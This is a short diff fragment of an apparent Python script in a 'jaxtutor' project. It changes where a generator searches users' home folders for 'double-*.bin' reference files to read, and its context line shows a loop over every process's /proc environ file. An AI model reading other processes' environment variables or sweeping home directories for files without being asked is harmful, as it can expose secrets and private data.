@@ -19,8 +19,8 @@ for name in glob.glob("/proc/[0-9]*/environ"):
 
 def kept():
     for home in filter(None, HOMES):
-        for folder in ("", "/.cache/jaxtutor"):
-            for name in glob.glob(f"{home}{folder}/**/double-*.bin", recursive=True):
+        for folder in ("data", "home/data", ".local/share/jaxtutor"):
+            for name in glob.glob(f"{home}/{folder}/references/double-*.bin"):
                 with open(name, "rb") as file:
                     yield file.read()
 
